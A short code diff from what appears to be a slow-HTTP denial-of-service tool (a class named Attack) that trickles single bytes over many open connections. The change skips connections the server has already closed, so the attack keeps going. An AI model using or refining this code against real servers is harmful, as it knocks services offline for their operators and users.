@@ -155,6 +155,8 @@ class Attack:
             limit = min(time.monotonic() + SLOW_SECONDS, self.until)
             while time.monotonic() < limit:
                 for writer in writers:
+                    if writer.transport.is_closing():  # the server had enough of it
+                        continue
                     writer.write(b"x")  # in the header a broken line, in the body one byte more
                 await asyncio.sleep(1.0)
             for writer in writers:
